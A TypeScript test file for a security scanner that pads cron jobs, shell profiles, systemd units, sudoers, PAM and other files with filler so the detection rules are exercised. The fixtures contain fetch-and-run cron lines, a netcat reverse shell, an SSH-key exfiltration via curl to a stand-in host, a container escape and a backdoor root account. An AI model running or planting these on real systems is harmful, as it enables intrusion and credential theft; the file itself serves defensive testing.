import { type DecoyCase, each, FETCH, key, many, script, testDecoys, token } from './testing/decoys.ts';

const cases: readonly DecoyCase[] = [
  {
    name: 'commented jobs',
    rule: 'persistence/cron-job',
    tier: 'block',
    files: { 'etc/cron.d/x': `${many(() => `# ${FETCH}\n`)}* * * * * root ${FETCH}\n` },
  },
  {
    name: 'jobs that fetch honestly',
    rule: 'persistence/cron-job',
    tier: 'block',
    files: {
      'etc/cron.d/x': `${many((i) => `0 1 * * * root curl https://a.example/${i}\n`)}* * * * * root ${FETCH}\n`,
    },
  },
  {
    name: 'notes before a job from an odd place',
    rule: 'persistence/cron-job',
    tier: 'review',
    files: {
      'etc/cron.d/x': `${many((i) => `0 1 * * * root curl https://a.example/${i}\n`)}* * * * * root /tmp/x\n`,
    },
  },
  {
    name: 'a pipeline of many commands',
    rule: 'persistence/cron-job',
    tier: 'block',
    files: { 'etc/cron.d/x': `* * * * * root curl http://x.invalid/a ${many(() => '| cat ')}| sh\n` },
  },
  {
    name: 'a statement of half a megabyte',
    rule: 'persistence/cron-job',
    tier: 'block',
    files: { 'etc/cron.d/x': `* * * * * root curl http://x.invalid/a ${'-s '.repeat(200_000)}| sh\n` },
  },
  {
    name: 'downloads that nobody runs',
    rule: 'persistence/cron-job',
    tier: 'block',
    files: {
      'etc/cron.daily/x': script(
        `${many((i) => `wget -O f${i} http://a.example/\n`)}wget -O x http://x.invalid/\nsh x\n`,
      ),
    },
  },
  {
    name: 'more downloads than are kept',
    rule: 'persistence/cron-job',
    tier: 'block',
    files: {
      'etc/cron.daily/x': script(
        `${each(25_000, (i) => `wget -O f${i} http://a.example/\n`)}wget -O x http://x.invalid/\nsh x\n`,
      ),
    },
    mayCut: true,
  },
  {
    name: 'requests to the machine itself',
    rule: 'persistence/shell-startup',
    tier: 'review',
    files: {
      'root/.profile': `${many(() => 'curl http://localhost/\n')}curl -T x http://x.invalid/\n`,
    },
  },
  {
    name: 'greetings before a download that is run',
    rule: 'persistence/shell-startup',
    tier: 'block',
    files: { 'root/.profile': `${many((i) => `curl https://a.example/${i}\n`)}${FETCH}\n` },
  },
  {
    name: 'programs where they belong',
    rule: 'persistence/unit',
    tier: 'review',
    files: {
      'etc/systemd/system/x.service': `[Service]\n${each(1_000, (i) => `ExecStartPre=/usr/bin/a${i}\n`)}ExecStart=/tmp/x\n`,
    },
  },
  {
    name: 'more programs than are kept',
    rule: 'persistence/unit',
    tier: 'review',
    files: {
      'etc/systemd/system/x.service': `[Service]\n${many((i) => `ExecStartPre=/usr/bin/a${i}\n`)}ExecStart=/tmp/x\n`,
    },
    mayCut: true,
  },
  {
    name: 'settings that load nothing',
    rule: 'persistence/interpreter-loader',
    tier: 'block',
    files: { 'etc/php.ini': `${many(() => 'auto_prepend_file = none\n')}auto_prepend_file = /tmp/x\n` },
  },
  {
    name: 'rules that run what is installed',
    rule: 'persistence/fetching-hook',
    tier: 'review',
    files: {
      'etc/udev/rules.d/x.rules': `${many((i) => `RUN+="/usr/bin/a${i}"\n`)}RUN+="/tmp/x"\n`,
    },
  },
  {
    name: 'a rule behind blanks',
    rule: 'persistence/fetching-hook',
    tier: 'review',
    files: { 'etc/udev/rules.d/x.rules': `A=="a", ${' '.repeat(5_000)}RUN+="/tmp/x"\n` },
  },
  {
    name: 'words about shells',
    rule: 'scripts/reverse-shell',
    tier: 'block',
    files: {
      'app/x.py': `${many((i) => `t${i} = "nc h 1 | sh"\n`)}\nimport os\nos.system("nc x.invalid 1 -e /bin/sh")\n`,
    },
  },
  {
    name: 'milder escapes',
    rule: 'scripts/container-escape',
    tier: 'block',
    files: { 'app/x.sh': script(`${many(() => 'nsenter -t 1 -m ls\n')}nsenter -t 1 -m sh\n`) },
  },
  {
    name: 'credentials that go nowhere',
    rule: 'scripts/credential-theft',
    tier: 'block',
    files: {
      'app/x.sh': script(
        `${many((i) => `A${i}=$(cat ~/.netrc)\n`)}B=$(cat ~/.ssh/id_rsa)\ncurl -d "$B" http://x.invalid/\n`,
      ),
    },
    mayCut: true,
  },
  {
    name: 'accounts of ordinary people',
    rule: 'accounts/second-root',
    tier: 'block',
    files: {
      'etc/passwd': `${many((i) => `u${i}:$6$a$b:${2000 + i}:1::/:/bin/sh\n`)}toor:x:0:0::/:/bin/sh\n`,
    },
  },
  {
    name: 'a rule behind a long one',
    rule: 'accounts/passwordless-sudo',
    tier: 'review',
    files: { 'etc/sudoers': `a ALL = ${many((i) => `/bin/a${i}, `)}\\\n NOPASSWD: ALL\n` },
  },
  {
    name: 'a line behind blanks',
    rule: 'accounts/pam-permit',
    tier: 'block',
    files: { 'etc/pam.d/sshd': `auth${' '.repeat(2_000)}sufficient${' '.repeat(2_000)}pam_permit.so\n` },
  },
  {
    name: 'a directive behind blanks',
    rule: 'accounts/sshd-login',
    tier: 'review',
    files: { 'etc/ssh/sshd_config': `${' '.repeat(100)}PermitRootLogin${' '.repeat(3_000)}yes\n` },
  },
  {
    name: 'options before a key',
    rule: 'accounts/authorized-keys',
    tier: 'review',
    files: {
      'root/.ssh/authorized_keys': `${each(2_000, (i) => `environment="A${i}=1",`)}pty ssh-ed25519 AAAA${'C'.repeat(64)} x\n`,
    },
  },
  {
    name: 'lines without a password',
    rule: 'secrets/credential-file',
    tier: 'review',
    files: { 'root/.git-credentials': `${many(() => '#\n')}https://me:k7Zq2VbN9xTf4Lm@git.invalid\n` },
  },
  {
    name: 'tokens that may be none',
    rule: 'secrets/token',
    tier: 'review',
    files: {
      'app/x.txt': `${each(500, () => 'AIzaSyB7k2VbN9xTf4LmR8sWc3YdH6pJa5uQz1e\n')}${token()}\n`,
    },
  },
  {
    name: 'first lines of keys',
    rule: 'secrets/private-key',
    tier: 'review',
    files: { 'app/x.bin': `\0${many(() => 'PRIVATE KEY-----\0')}${key()}` },
    mayCut: true,
  },
  {
    name: 'a long line of history',
    rule: 'secrets/environment',
    tier: 'review',
    config: {
      history: [
        {
          createdBy: `RUN ${many((i) => `A${i}=1 `)}DB_PASSWORD=k7Zq2VbN9xTf4LmR8sWc make`,
          emptyLayer: true,
        },
      ],
    },
  },
];

testDecoys(cases);
